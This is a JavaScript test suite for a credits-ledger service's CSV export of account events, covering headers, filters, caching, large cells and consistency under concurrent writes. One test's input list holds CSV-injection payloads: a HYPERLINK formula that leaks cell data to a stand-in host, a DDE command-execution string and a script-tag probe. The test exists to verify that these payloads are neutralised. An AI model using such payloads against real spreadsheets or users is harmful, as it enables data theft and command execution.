// The history as CSV: RFC 4180, harmless in a spreadsheet whatever labels
// hold, the same rows as the pages have, whole whatever comes in meanwhile.

import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';

import { csvRows, pages, readCsv } from './ledger-book.js';
import {
    newSpace, ok, own, refused, room, viewing,
} from './meter.js';
import { payByCard } from './payer.js';
import { must, newBuyer, place, stopWhole } from './shop.js';
import { keyed, startSite, until } from './site.js';

let site;
let client;
before(async () => {
    site = await startSite({ env: { SCRIP_TICK_SECONDS: '0' } });
    client = keyed(site);
});
after(() => stopWhole(site));

const HEADER = ['id', 'seq', 'kind', 'credits', 'balance_after', 'occurred_at',
    'title', 'words', 'feature', 'activity', 'quality', 'quantity', 'unit',
    'price_credits', 'price_per', 'livestream', 'order', 'campaign', 'member',
    'hold', 'refund_of', 'checkout_order', 'amount', 'currency', 'lots',
    'note'];
const NUMBERS = ['seq', 'credits', 'balance_after', 'quantity',
    'price_credits', 'price_per', 'amount'];
const WIDE = '\uff1d\uff0b\uff0d\uff20';
const FORMULA = new RegExp(`^[=+\\-@\\t\\r\\n${WIDE}]`);

const csvOf = async (space, query = '') => {
    const answer = await space.get(`events.csv${query}`);
    assert.equal(answer.status, 200, answer.text);
    return answer.text;
};
const eventsOf = async (space, query = '') => (await pages(space,
    `events${query}`, 'events', () => 100)).all.reverse();

// A row as the event that it is of, with what was put before a text undone.
function sameAs(row, event) {
    const flat = { ...event, price_credits: event.price?.credits ?? null,
        price_per: event.price?.per ?? null,
        lots: event.lots.map(({ lot, kind, credits }) => (
            lot === null ? `debt ${credits}` : `${lot} ${kind} ${credits}`))
            .join('; ') };
    delete flat.price;
    for (const [name, { text, quoted }] of Object.entries(row)) {
        if (NUMBERS.includes(name)) {
            assert.equal(quoted, false, name);
            assert.equal(text, flat[name] === null ? '' : String(flat[name]), name);
        } else {
            assert.doesNotMatch(text, FORMULA, name);
            const guarded = FORMULA.test(flat[name] ?? '');
            assert.equal(text, `${guarded ? "'" : ''}${flat[name] ?? ''}`, name);
        }
        delete flat[name];
    }
    assert.deepEqual(flat, {}); // no member is missing
}

function sameRows(text, events) {
    const rows = csvRows(text);
    assert.equal(rows.length, events.length);
    rows.forEach((row, i) => sameAs(row, events[i]));
}

const HOSTILE = ['=HYPERLINK("http://x.test/?"&A1,"click")', "=cmd|' /C calc'!A0",
    '+1+1', '-2+3', '@SUM(1+1)', '\t=1', '\r=1', '\n=1', '＝1+1', '＋1', '－1', '＠1',
    '<script>alert(1)</script>', '"', '""', '",=1', '";=1', 'a\r\n=1,b',
    'a\n', ',', ' =1', "'", "'=1", ';=1', '%0A=1', '\u0001', '\u202etxt.exe',
    'שלום עולם '.repeat(20), '你好'.repeat(100), '😀'.repeat(200),
    'null', '0', '-0', '1e5'];

test('labels of any kind are kept, and none is a formula', async () => {
    const space = await newSpace(site, 10 ** 6);
    for (const text of HOSTILE) {
        ok(await space.charge({ feature: text, credits: 1, livestream: text,
            order: text, campaign: text, member: text, note: text }), 201);
    }
    ok(await space.grant({ credits: 5, reason: '=1+1' }), 201);
    const { json } = await space.charge(viewing(4001, { livestream: '=1' }));
    ok(await space.refund({ event: json.event.id, reason: '-1' }), 201);
    const text = await csvOf(space);
    sameRows(text, await eventsOf(space));
    for (const line of readCsv(text)) {
        for (const cell of line) {
            assert.ok(!FORMULA.test(cell.text) || /^-\d+$/.test(cell.text),
                cell.text);
        }
    }
});

test('it has a header, a name and a type, and is asked for like any answer', async () => {
    const space = await newSpace(site);
    const path = `${space.path}/events.csv`;
    const answer = await client.get(path);
    assert.deepEqual(answer.text, `${HEADER.join(',')}\r\n`);
    assert.match(answer.headers['content-type'], /^text\/csv; charset=utf-8/);
    assert.equal(answer.headers['content-disposition'],
        `attachment; filename="${space.slug}-credits.csv"`);
    assert.equal(answer.headers['cache-control'], 'private, no-cache');
    assert.ok(answer.headers['request-id']);

    const { etag } = answer.headers;
    const again = (tag, query = '') => client.get(path + query,
        { headers: { 'If-None-Match': tag } });
    assert.equal((await again(etag)).status, 304);
    assert.equal((await again(etag, '?kind=bonus')).status, 200);
    ok(await space.grant({ credits: 5 }), 201);
    assert.equal((await again(etag)).status, 200);

    for (const [query, pointer] of [['limit=5', '/limit'], ['before=x', '/before'],
        ['kind=x', '/kind'], ['from=x', '/from'], ['x=1', '/x']]) {
        const { errors } = refused(await space.get(`events.csv?${query}`), 400,
            'invalid_request');
        assert.equal(errors[0].pointer, pointer);
    }
});

test('every kind of event is there, what is due as well, with and without filters', async () => {
    const space = await newSpace(site, 1000);
    const end = new Date(Date.now() + 3600000).toISOString();
    ok(await space.grant({ credits: 50, expires_at: end }), 201);
    const { hold } = ok(await space.hold(viewing(10000, { campaign: 'c' })), 201);
    ok(await space.capture(hold.id, { quantity: 10, final: false }), 200);
    ok(await space.charge(room(3, { campaign: 'c' })), 201);
    ok(await space.charge(own(3, { livestream: 'l', campaign: 'd' })), 201);
    ok(await space.grant({ credits: -1, kind: 'adjustment' }), 201);
    await must(site, ['clock', 'advance', '2h']);
    const all = await eventsOf(space);
    assert.ok(all.some(({ kind }) => kind === 'expiry'));
    for (const query of ['', '?kind=expiry', '?kind=captured_usage,bonus',
        '?campaign=c', '?campaign=c&kind=captured_usage', '?livestream=',
        '?campaign=nobody', `?from=${end}`, `?to=${end}`,
        `?from=${end.slice(0, 10)}&to=${end.slice(0, 10)}`]) {
        sameRows(await csvOf(space, query), await eventsOf(space, query));
    }
    const before_ = await csvOf(space);
    ok(await space.grant({ credits: 1 }), 201); // writes what was due
    assert.ok((await csvOf(space)).startsWith(before_));
});

test('a top-up is there with what was paid; other Spaces are not there', async () => {
    const buyer = await newBuyer(site);
    const { order, payment_url: url } = await place(buyer);
    assert.equal((await payByCard(site, url)).status, 303);
    const space = { get: (what) => buyer
        .get(`/api/v1/spaces/${buyer.space}/${what}`) };
    const [event] = await until('the credits', async () => {
        const events = await eventsOf(space);
        return events.length > 0 && events;
    });
    const text = await csvOf(space);
    sameRows(text, [event]);
    const [row] = csvRows(text);
    assert.deepEqual([row.kind.text, row.checkout_order.text, row.amount.text,
        row.currency.text], ['top_up', order.id, '2500', 'GBP']);
    const stranger = await newBuyer(site);
    refused(await stranger.get(`/api/v1/spaces/${buyer.space}/events.csv`), 404,
        'not_found');
});

test('a line is whole that is longer than any piece of the stream', async () => {
    const space = await newSpace(site);
    const lots = 1700;
    for (let i = 0; i < lots; i += 50) {
        await Promise.all(Array.from({ length: 50 }, async () => ok(
            await space.grant({ credits: 1, reason: 'r' }), 201)));
    }
    ok(await space.charge(own(lots, { note: 'all of them' })), 201);
    ok(await space.grant({ credits: 1, reason: 'behind it' }), 201);
    const rows = csvRows(await csvOf(space));
    assert.equal(rows.length, lots + 2);
    const { lots: cell, note } = rows[lots];
    assert.ok(cell.text.length > 65536);
    assert.equal(cell.text.split('; ').length, lots);
    assert.equal(note.text, 'all of them');
    assert.equal(rows[lots + 1].note.text, 'behind it');
});

test('what comes in while it is sent comes after it: the file is of one moment', async () => {
    const space = await newSpace(site, 10 ** 6);
    const some = (name) => client.post('/api/v1/captures/batch', {
        captures: Array.from({ length: 1000 }, (_, i) => (
            { space: space.slug, key: `${name} ${i}`, ...own(1) })) });
    for (let i = 0; i < 4; i += 1) ok(await some(`first ${i}`), 200);
    let busy = true;
    const writing = (async () => {
        for (let i = 0; busy; i += 1) ok(await some(`then ${i}`), 200);
    })();
    const seen = [];
    const grown = () => seen.at(-1) > seen[0];
    for (let i = 0; i < 5 || (!grown() && i < 200); i += 1) {
        const { total, seq } = await space.balance();
        const rows = csvRows(await csvOf(space));
        assert.deepEqual(rows.map((row) => Number(row.seq.text)),
            Array.from({ length: rows.length }, (_, k) => k + 1));
        assert.ok(rows.length >= seq);
        assert.equal(Number(rows[seq - 1].balance_after.text), total);
        seen.push(rows.length);
    }
    busy = false;
    await writing;
    assert.ok(grown(), String(seen));
});
